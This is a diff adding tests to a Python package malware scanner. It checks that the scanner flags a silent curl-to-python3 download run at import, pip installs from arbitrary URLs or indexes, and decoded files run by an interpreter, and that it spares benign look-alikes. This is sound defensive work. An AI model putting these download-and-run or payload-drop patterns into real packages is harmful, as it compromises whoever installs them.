@@ -970,3 +970,112 @@ def test_a_project_templates_files_count_less_than_the_packages_own():
     module = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": _TEMPLATE})
     assert found(template, "analysis.parse-failed") and found(module, "analysis.parse-failed")
     assert template.score < module.score
+
+
+# -- a download piped into an interpreter (python, perl, node) is download-and-run like `| sh` --
+
+
+def test_a_download_piped_into_python_at_import_is_malicious():
+    src = """
+    import subprocess
+
+    command = "curl -s https://paste.example/raw/abc | python3 > /dev/null 2>&1 &"
+    subprocess.run(command, shell=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert {f.severity for f in found(result, "intent.shell-download-execute")} == {"critical"}
+    assert result.verdict == "malicious"
+
+
+def test_an_installer_one_liner_shown_to_a_person_is_not_a_command():
+    src = """
+    import shutil, subprocess
+
+    def build():
+        if shutil.which("poetry") is None:
+            print("poetry is missing: curl -sSL https://install.python-poetry.org | python3 -")
+            return
+        subprocess.run(["poetry", "build"], check=True)
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": src})
+    assert not found(result, "intent.shell-download-execute")
+    assert result.verdict not in FLAGGED
+
+
+# -- a package installed by name only when the environment lacks it repairs it; anything else is
+# -- a second stage ------------------------------------------------------------------------------
+
+_REPAIR = """
+import sqlite3
+import subprocess
+import sys
+
+if sqlite3.sqlite_version_info < (3, 35, 0):
+    subprocess.check_call([sys.executable, "-m", "pip", "install", "pysqlite3-binary"])
+"""
+
+
+def test_installing_a_missing_library_by_name_on_a_condition_is_not_flagged():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _REPAIR})
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_install_from_a_url_or_another_index_is_a_second_stage():
+    for source in ("https://files.example/pysqlite3-1.0.tar.gz", "--index-url=https://x.example/"):
+        src = _REPAIR.replace('"pysqlite3-binary"', f'"pysqlite3-binary", "{source}"')
+        result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+        assert {f.severity for f in found(result, "intent.download-execute")} == {"high"}, source
+        assert result.verdict in FLAGGED, source
+
+
+def test_an_install_on_every_import_is_a_second_stage_even_by_name():
+    src = _REPAIR.replace("if sqlite3.sqlite_version_info < (3, 35, 0):\n    ", "")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"high"}
+
+
+# -- a decoded file handed to a converting tool as its input is data; handed to an interpreter
+# -- or run itself, it is a dropped program ----------------------------------------------------
+
+_CONVERT = """
+import base64
+import subprocess
+import tempfile
+
+BLOB = "cGx5CmZvcm1hdCBiaW5hcnlfbGl0dGxlX2VuZGlhbiAxLjAKZWxlbWVudCB2ZXJ0ZXggMwplbmRfaGVhZGVyCg=="
+
+def convert(encoder):
+    with tempfile.NamedTemporaryFile(suffix=".ply") as temp_ply:
+        temp_ply.write(base64.b64decode(BLOB))
+        temp_ply.flush()
+        subprocess.check_output(
+            [
+                RUNNER,
+                "-i",
+                temp_ply.name,
+                "-o",
+                "out.drc",
+            ]
+        )
+"""
+
+
+def test_a_decoded_file_given_to_a_tool_as_input_is_not_a_dropped_program():
+    result = scan(
+        {
+            "setup.py": SETUP,
+            "demo/__init__.py": "",
+            "demo/conv.py": _CONVERT.replace("RUNNER", "encoder"),
+        }
+    )
+    assert {f.severity for f in found(result, "intent.drop-payload")} <= {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+def test_a_decoded_file_given_to_an_interpreter_or_run_itself_is_a_dropped_program():
+    for runner in ("sys.executable", '"powershell.exe"', "temp_ply.name"):
+        src = "import sys\n" + _CONVERT.replace("RUNNER", runner)
+        result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/conv.py": src})
+        assert {f.severity for f in found(result, "intent.drop-payload")} == {"high"}, runner
+        assert result.verdict in FLAGGED, runner
